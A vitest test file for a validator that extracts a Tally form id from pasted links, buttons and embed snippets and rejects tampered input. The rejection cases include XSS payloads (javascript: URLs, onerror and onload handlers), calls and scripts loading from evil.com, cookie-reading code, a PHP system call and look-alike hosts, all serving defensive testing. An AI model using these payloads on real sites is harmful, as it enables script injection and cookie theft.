import { describe, expect, it } from 'vitest';
import { readSnippet } from './read-snippet.server.ts';
import { parseTallyForm, toTallyForm } from './tally-form.ts';

const LOADER = `<script>var d=document,w="https://tally.so/widgets/embed.js",v=function(){"undefined"!=typeof Tally?Tally.loadEmbeds():d.querySelectorAll("iframe[data-tally-src]:not([src])").forEach((function(e){e.src=e.dataset.tallySrc}))};if("undefined"!=typeof Tally)v();else if(d.querySelector('script[src="'+w+'"]')==null){var s=d.createElement("script");s.src=w,s.onload=v,s.onerror=v,d.body.appendChild(s);}</script>`;

const EMBED = `<iframe data-tally-src="https://tally.so/embed/mVxQ2k?alignLeft=1&hideTitle=1&transparentBackground=1&dynamicHeight=1" loading="lazy" width="100%" height="200" frameborder="0" marginheight="0" marginwidth="0" title="Growth quiz"></iframe>`;

const FULL_PAGE = `<!DOCTYPE html>
<html>
  <head>
    <meta name="viewport" content="width=device-width, initial-scale=1, maximum-scale=1">
    <title>Growth quiz</title>
    <script async src="https://tally.so/widgets/embed.js"></script>
    <style type="text/css">
      html { margin: 0; height: 100%; overflow: hidden; }
      iframe { position: absolute; top: 0; right: 0; bottom: 0; left: 0; border: 0; }
    </style>
  </head>
  <body>
    <iframe data-tally-src="https://tally.so/r/mVxQ2k?transparentBackground=1" width="100%" height="100%" frameborder="0" marginheight="0" marginwidth="0" title="Growth quiz"></iframe>
  </body>
</html>`;

const CONFIG = `<script src="https://tally.so/widgets/embed.js"></script>
<script>
  window.TallyConfig = {
    "formId": "mVxQ2k",
    "popup": {
      "width": 800,
      "emoji": { "text": "👋", "animation": "wave" },
      "open": { "trigger": "exit" },
      "autoClose": 0
    }
  };
</script>`;

describe('parseTallyForm', () => {
  it.each([
    ['the id', 'mVxQ2k'],
    ['the id with spaces around it', '  mVxQ2k\n'],
    ['the link', 'https://tally.so/r/mVxQ2k'],
    ['the link with parameters', 'https://tally.so/r/mVxQ2k?transparentBackground=1#top'],
    ['the link without https', 'tally.so/r/mVxQ2k'],
    ['the link with www', 'https://www.tally.so/r/mVxQ2k/'],
    ['the embed address', 'https://tally.so/embed/mVxQ2k?alignLeft=1'],
    ['the editor', 'https://tally.so/forms/mVxQ2k/edit'],
    ['the share page', 'https://tally.so/forms/mVxQ2k/share'],
    ['a popup link', '#tally-open=mVxQ2k&tally-layout=modal&tally-width=800'],
    ['a popup link in full', 'https://tally.so#tally-open=mVxQ2k&tally-emoji-text=👋'],
    ['button attributes', 'data-tally-open="mVxQ2k" data-tally-width="800"'],
    [
      'a button',
      '<button data-tally-open="mVxQ2k" data-tally-layout="modal" data-tally-emoji-text="👋">Start</button>',
    ],
    ['a link that opens the popup', '<a href="#tally-open=mVxQ2k&amp;tally-width=800">Start</a>'],
    ['code', "Tally.openPopup('mVxQ2k', { layout: 'modal', width: 800 });"],
    [
      'code with an emoji',
      "Tally.openPopup('mVxQ2k', { emoji: { text: '👋', animation: 'wave' }, overlay: true }); // opens",
    ],
    ['the config snippet', CONFIG],
    ['the embed snippet', `${EMBED}${LOADER}`],
    ['the full page snippet', FULL_PAGE],
    [
      'the script tag with a button',
      '<script async src="https://tally.so/widgets/embed.js"></script>\n<button data-tally-open="mVxQ2k">Quiz</button>',
    ],
  ])('understands %s', (_, pasted) => {
    expect(parseTallyForm(pasted, readSnippet)).toEqual({
      ok: true,
      value: toTallyForm('mVxQ2k'),
      summary: 'Tally form mVxQ2k',
    });
  });

  it('gives the addresses a page needs', () => {
    expect(toTallyForm('mVxQ2k')).toEqual({
      provider: 'tally',
      formId: 'mVxQ2k',
      formUrl: 'https://tally.so/r/mVxQ2k',
      scriptUrl: 'https://tally.so/widgets/embed.js',
      origin: 'https://tally.so',
    });
  });

  it.each([
    ['code as a link', 'javascript:alert(1)', 'not-https'],
    ['code as a link in capitals', 'JaVaScRiPt:alert(1)', 'not-https'],
    ['data as a link', 'data:text/html,<script>alert(1)</script>', 'not-understood'],
    ['plain http', 'http://tally.so/r/mVxQ2k', 'not-https'],
    ['credentials', 'https://tally.so@evil.com/r/mVxQ2k', 'credentials'],
    ['credentials with a password', 'https://a:b@tally.so/r/mVxQ2k', 'credentials'],
    ['a host that ends like it', 'https://eviltally.so/r/mVxQ2k', 'unknown-host'],
    ['a host that begins like it', 'https://tally.so.evil.com/r/mVxQ2k', 'unknown-host'],
    ['an encoded host', 'https://tally.so%2eevil.com/r/mVxQ2k', 'unknown-host'],
    ['a look-alike letter', 'https://tаlly.so/r/mVxQ2k', 'unknown-host'],
    ['another port', 'https://tally.so:8443/r/mVxQ2k', 'unknown-host'],
    ['a subdomain', 'https://api.tally.so/r/mVxQ2k', 'unknown-host'],
    ['another provider', 'https://example.typeform.com/to/mVxQ2k', 'unknown-host'],
    ['a page that is no form', 'https://tally.so/pricing', 'wrong-page'],
    ['the dashboard', 'https://tally.so/dashboard', 'wrong-page'],
    ['backslashes', 'https:\\\\tally.so\\r\\mVxQ2k', 'not-understood'],
    ['words', 'my quiz', 'not-understood'],
    ['a short word', 'quiz', 'not-understood'],
    ['a hidden character', 'mVx\u200bQ2k', 'characters'],
    ['a direction override', 'https://tally.so/r/\u202emVxQ2k', 'characters'],
    ['a NUL', 'mVxQ2k\u0000', 'characters'],
    ['too much', `<!--${'x'.repeat(6000)}-->`, 'too-long'],
    ['two forms', 'Tally.openPopup("mVxQ2k"); Tally.openPopup("aaaaaa");', 'two-ids'],
    ['no form', '<script src="https://tally.so/widgets/embed.js"></script>', 'not-understood'],
    ['an empty id', '<button data-tally-open="">Quiz</button>', 'not-understood'],
    ['an id that is none', '<button data-tally-open="../../x">Quiz</button>', 'not-understood'],
    [
      'a foreign script',
      `${EMBED}<script src="https://evil.com/embed.js"></script>`,
      'unknown-host',
    ],
    [
      'a script from a host like it',
      `${EMBED}<script src="https://tally.so.evil.com/widgets/embed.js"></script>`,
      'unknown-host',
    ],
    ['a foreign iframe', `${EMBED}<iframe src="https://evil.com/"></iframe>`, 'unknown-host'],
    ['a handler', EMBED.replace('loading=', 'onload="alert(1)" loading='), 'foreign-part'],
    ['inline content', EMBED.replace('loading=', 'srcdoc="<b>x</b>" loading='), 'foreign-part'],
    ['an address that is code', '<a href="javascript:alert(1)">Quiz</a>', 'foreign-part'],
    ['an address that is hidden code', '<a href=" JavaScript:alert(1)">Quiz</a>', 'foreign-part'],
    ['an image', `${EMBED}<img src=x onerror=alert(1)>`, 'foreign-part'],
    ['an SVG', `<svg onload=alert(1)>${EMBED}</svg>`, 'foreign-part'],
    ['a form', `<form action="https://evil.com">${EMBED}</form>`, 'foreign-part'],
    [
      'a redirect',
      `<meta http-equiv="refresh" content="0;url=https://evil.com">${EMBED}`,
      'foreign-part',
    ],
    [
      'a style that loads',
      `<style>@import "https://evil.com/x.css";</style>${EMBED}`,
      'foreign-part',
    ],
    ['text around it', `Here is the code: ${EMBED}`, 'not-understood'],
    ['text inside it', `<div>Hello ${EMBED}</div>`, 'foreign-part'],
    ['a tag that never ends', '<iframe src="https://tally.so/embed/mVxQ2k"', 'foreign-part'],
    ['an end tag of an unknown element', `${EMBED}</object>`, 'foreign-part'],
    ['attributes on an end tag', `${EMBED}</div onclick="alert(1)">`, 'foreign-part'],
    ['a processing instruction', `<?php system("id") ?>${EMBED}`, 'foreign-part'],
    ['an address in references', '<a href="javascript&colon;alert(1)">Quiz</a>', 'foreign-part'],
    ['an address in two lines', '<a href="java&#10;script:alert(1)">Quiz</a>', 'foreign-part'],
    ['a script that never ends', '<script>Tally.openPopup("mVxQ2k")', 'foreign-part'],
    [
      'an attribute twice',
      '<button data-tally-open="mVxQ2k" data-tally-open="aaaaaa">x</button>',
      'foreign-part',
    ],
    ['code that calls out', 'Tally.openPopup("mVxQ2k");fetch("//evil.com")', 'foreign-part'],
    ['code that reads cookies', 'Tally.openPopup("mVxQ2k",{text:document.cookie})', 'foreign-part'],
    ['code that goes by brackets', 'window["alert"](1);Tally.openPopup("mVxQ2k")', 'foreign-part'],
    ['code in a template', 'Tally.openPopup("mVxQ2k");`1`', 'foreign-part'],
    [
      'code with another address',
      'var w="https://evil.com/x.js";Tally.openPopup("mVxQ2k")',
      'foreign-part',
    ],
    ['code with an escape', 'Tally.openPopup("mVx\\u0051k")', 'foreign-part'],
    [
      'a loader that was changed',
      EMBED + LOADER.replace('s.src=w', 's.src="//evil.com/x.js"'),
      'foreign-part',
    ],
  ])('rejects %s', (_, pasted, reason) => {
    const parsed = parseTallyForm(pasted, readSnippet);
    expect(parsed).toMatchObject({ ok: false, reason });
    expect(!parsed.ok && parsed.message.length).toBeGreaterThan(20);
  });

  it('quotes the part that it rejects', () => {
    const parsed = parseTallyForm('Tally.openPopup("mVxQ2k");fetch("x")');
    expect(parsed).toMatchObject({
      message:
        'This snippet contains something that is not Tally’s: “fetch”. Copy it again from Tally.',
    });
  });

  it('stays fast for the worst input of the longest length', () => {
    const before = process.threadCpuUsage();
    for (const filler of [
      '<a ',
      '<a b',
      ' ',
      'x=',
      "'",
      '"',
      '//',
      '<!--',
      '<script>',
      'a.',
      '-',
    ]) {
      parseTallyForm(`<a ${filler.repeat(Math.floor(4900 / filler.length))}`, readSnippet);
      parseTallyForm(`Tally ${filler.repeat(Math.floor(4900 / filler.length))}`, readSnippet);
      parseTallyForm(filler.repeat(Math.floor(4900 / filler.length)), readSnippet);
    }
    const { user } = process.threadCpuUsage(before);
    expect(user / 1_000).toBeLessThan(2_000);
  });
});
